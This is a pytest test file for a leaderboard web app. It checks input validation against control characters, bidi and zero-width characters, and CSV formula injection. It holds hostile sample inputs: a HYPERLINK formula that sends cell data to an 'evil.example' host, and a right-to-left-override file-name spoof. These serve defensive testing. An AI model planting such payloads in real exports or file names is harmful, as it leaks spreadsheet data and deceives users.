"""Hostile text: control characters refused with 422 (API, forms, path and query), names
NFKC-normalised with bidi and zero-width characters refused, CSV cells neutralised."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest

from core.leaderboard.export import _csv
from core.models import Submission
from core.text import SafeMultiline, SafeName, SafeText, csv_cell, name_problem, text_problem
from tests.submission_helpers import TINY_MODEL, predictions_text
from tests.test_pages import HTML, browser, browser_multipart, csrf_of, paper, set_baseline
from web import enqueue

if TYPE_CHECKING:
    from tests.api_helpers import Api

pytest_plugins = ["tests.api_helpers"]


@pytest.fixture(autouse=True)
def no_broker(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(enqueue, "send_score", lambda *_args, **_kwargs: True)


def _problems(response: Any) -> list[str]:
    return [d["column"] + ": " + d["problem"] for d in response.json()["error"]["details"]]


# --- the rules ----------------------------------------------------------------------------------


def test_text_rules() -> None:
    from pydantic import TypeAdapter, ValidationError

    assert text_problem("plain text") is None
    assert "U+0000 at position 2" in (text_problem("a\x00b") or "")
    assert text_problem("a\x85b") is not None  # C1
    assert text_problem("a\x7fb") is not None  # DEL
    assert text_problem("line\tone\r\nline two") is not None
    assert text_problem("line\tone\r\nline two", multiline=True) is None
    assert text_problem("a\x00", multiline=True) is not None
    for bad in ("a\u202eb", "a\u2066b", "a\u200bb", "a\u200db", "a\u2060b", "\ufeffab"):
        assert name_problem(bad) is not None, repr(bad)
    assert name_problem("ElasticBERT (paper) \u2013 ÆØÅ 模型") is None

    name = TypeAdapter(SafeName)
    assert (
        name.validate_python("  \uff25\uff4c\uff41\uff53\uff54\uff49\uff43\u00a0BERT ")
        == "Elastic BERT"
    )  # NFKC, stripped
    with pytest.raises(ValidationError, match="bidirectional"):
        name.validate_python("evil\u202egnp.exe")
    with pytest.raises(ValidationError, match="zero-width"):
        name.validate_python("Elastic\u200bBERT")
    with pytest.raises(ValidationError, match="control character"):
        TypeAdapter(SafeText).validate_python("x\x00")
    assert TypeAdapter(SafeMultiline).validate_python("a\r\nb\tc") == "a\r\nb\tc"


def test_csv_cells_neutralised_numbers_kept() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("plain") == "plain"
    assert csv_cell(-3) == -3
    out = _csv(["name", "delta", "score"], [['=HYPERLINK("http://x")', -1.5, -2]])
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1] == ['\'=HYPERLINK("http://x")', "-1.5", "-2"]


# --- the API ------------------------------------------------------------------------------------


def test_api_refuses_control_characters(seeded_api: Api) -> None:
    client = seeded_api.client
    alice = seeded_api.user()
    bad_signup = client.post(
        "/api/v1/users",
        json={"email": "x\x00@example.org", "display_name": "Nul\x00l", "password": "p" * 12},
    )
    assert bad_signup.status_code == 422, bad_signup.text
    problems = _problems(bad_signup)
    assert any(p.startswith("body.display_name:") and "U+0000" in p for p in problems), problems
    assert any(p.startswith("body.email:") for p in problems), problems

    login = client.post("/api/v1/session", json={"email": "a\x00@b.org", "password": "x" * 10})
    assert login.status_code == 422, login.text
    assert any("body.email" in p for p in _problems(login))

    token = client.post("/api/v1/tokens", json={"name": "lap\u200btop"}, headers=alice.headers)
    assert token.status_code == 422, token.text

    entry = {
        "name": "paper\x00",
        "description": "ok\r\nfine\x01",
        "paper_url": "https://example.org/p",
        "points": [{"task": "SST-2", "point": "a", "performance": 80.0, "flops": 1e9}],
    }
    made = client.post("/api/v1/papers", json=entry, headers=alice.headers)
    assert made.status_code == 422, made.text
    columns = {d["column"] for d in made.json()["error"]["details"]}
    assert {"body.name", "body.description"} <= columns
    nul_task = {**entry, "name": "fine", "description": ""}
    nul_task["points"] = [{"task": "SST\x00-2", "performance": 80.0, "flops": 1e9}]
    assert client.post("/api/v1/papers", json=nul_task, headers=alice.headers).status_code == 422

    sid = paper(seeded_api, alice, "fine entry")
    patch = client.patch(
        f"/api/v1/submissions/{sid}", json={"description": "x\x00"}, headers=alice.headers
    )
    assert patch.status_code == 422, patch.text
    ok = client.patch(
        f"/api/v1/submissions/{sid}",
        json={"description": "line one\r\n\tline two"},
        headers=alice.headers,
    )
    assert ok.status_code == 200, ok.text

    for url in (
        "/api/v1/leaderboard?q=%00",
        "/api/v1/leaderboard?sort=rank%01",
        "/api/v1/submissions?task=SST%00",
        "/api/v1/tasks/SST%00-2/leaderboard",
        "/api/v1/tasks/SST-2/leaderboard?q=a%0Ab",
    ):
        response = client.get(url)
        assert response.status_code == 422, (url, response.text)
        assert "control character" in response.text


def test_api_normalises_and_refuses_invisible_names(seeded_api: Api) -> None:
    client = seeded_api.client
    alice = seeded_api.user()
    for bad in ("Elastic\u202eTREB", "Elastic\u2067BERT", "Elastic\u200bBERT", "\ufeffElastic"):
        entry = {
            "name": bad,
            "paper_url": "https://example.org/p",
            "points": [{"task": "SST-2", "performance": 80.0, "flops": 1e9}],
        }
        refused = client.post("/api/v1/papers", json=entry, headers=alice.headers)
        assert refused.status_code == 422, (bad, refused.text)
        assert "not allowed in names" in refused.text
    sid = paper(seeded_api, alice, "  \uff25\uff4c\uff41\uff53\uff54\uff49\uff43 BERT  ")
    with seeded_api.db() as session:
        sub = session.get(Submission, sid)
        assert sub is not None
        assert sub.name == "Elastic BERT"
    # The same name after normalisation is the same name.
    again = client.post(
        "/api/v1/papers",
        json={
            "name": "Elastic BERT",
            "paper_url": "https://example.org/p",
            "points": [{"task": "SST-2", "performance": 80.0, "flops": 1e9}],
        },
        headers=alice.headers,
    )
    assert again.status_code == 422
    assert "already have a submission" in again.text
    renamed = client.patch(
        f"/api/v1/submissions/{sid}", json={"name": "x\u202ey"}, headers=alice.headers
    )
    assert renamed.status_code == 422, renamed.text
    signup = client.post(
        "/api/v1/users",
        json={"email": "bidi@example.org", "display_name": "Ada\u202e", "password": "p" * 12},
    )
    assert signup.status_code == 422, signup.text
    fine = client.post(
        "/api/v1/users",
        json={
            "email": "nfkc@example.org",
            "display_name": " \uff21\uff44\uff41 ",
            "password": "p" * 12,
        },
    )
    assert fine.status_code == 201, fine.text
    assert fine.json()["display_name"] == "Ada"


# --- the pages ----------------------------------------------------------------------------------


def test_page_forms_show_control_character_errors(seeded_api: Api) -> None:
    anonymous = browser(seeded_api)
    form = anonymous.get("/login")
    login = anonymous.post(
        "/login",
        data={"email": "a\x00@b.org", "password": "x" * 10, "csrf_token": csrf_of(form.text)},
    )
    assert login.status_code == 422, login.text
    assert 'role="alert"' in login.text
    assert "control characters" in login.text

    form = anonymous.get("/register")
    register = anonymous.post(
        "/register",
        data={
            "email": "eve@example.org",
            "display_name": "Eve\u202e",
            "password": "p" * 12,
            "csrf_token": csrf_of(form.text),
        },
    )
    assert register.status_code == 422, register.text
    assert "not allowed in names" in register.text

    user = seeded_api.user()
    client = browser(seeded_api, user)
    csrf = csrf_of(client.get("/submit").text)
    files = [
        ("model", "tiny_static.py", TINY_MODEL.read_bytes()),
        ("predictions", "SST-2.tsv", predictions_text("SST-2").encode()),
    ]
    body, headers = browser_multipart(
        {"name": "bad\x00name", "description": "d\x07", "csrf_token": csrf}, files
    )
    refused = client.post("/submit", content=body, headers=headers)
    assert refused.status_code == 422, refused.text[:2000]
    assert "U+0000" in refused.text
    assert "U+0007" in refused.text
    assert "<form" in refused.text  # shown on the form, not an error page
    body, headers = browser_multipart({"name": "zero\u200bwidth", "csrf_token": csrf}, files)
    refused = client.post("/submit", content=body, headers=headers)
    assert refused.status_code == 422
    assert "zero-width" in refused.text

    csrf = csrf_of(client.get("/account").text)
    token = client.post("/account/tokens", data={"name": "lap\x00top", "csrf_token": csrf})
    assert token.status_code == 422
    assert "U+0000" in token.text

    home = client.get("/?q=%00", headers=HTML)
    assert home.status_code == 422
    assert "control character" in home.text
    task_page = client.get("/tasks/SST-2?sort=%01", headers=HTML)
    assert task_page.status_code == 422


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_export_neutralises_a_malicious_name(seeded_api: Api) -> None:
    client = seeded_api.client
    admin, alice = seeded_api.user(admin=True), seeded_api.user()
    base = paper(seeded_api, alice, "the base")
    set_baseline(seeded_api, admin, base)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    paper(
        seeded_api,
        alice,
        evil,
        points=[{"task": "SST-2", "point": "a", "performance": 80.0, "flops": 2.0e9}],
    )
    overall = client.get("/api/v1/leaderboard?format=csv&self_reported=true")
    assert overall.status_code == 200, overall.text
    rows = list(csv.DictReader(io.StringIO(overall.text)))
    assert "'" + evil in [r["name"] for r in rows]
    task = client.get("/api/v1/tasks/SST-2/leaderboard?format=csv")
    assert task.status_code == 200, task.text
    rows = list(csv.DictReader(io.StringIO(task.text)))
    mine = [r for r in rows if r.get("name", r.get("submission_name")) == "'" + evil]
    assert mine, rows[:3]
    # Numbers stay numbers: the negative delta to the baseline is written as it is.
    deltas = [r["delta"] for r in mine if r.get("delta")]
    assert deltas, mine
    assert all(float(d) < 0 and d.startswith("-") for d in deltas), mine
    assert not any(v.startswith("'") for r in rows for k, v in r.items() if k != "name" and v)
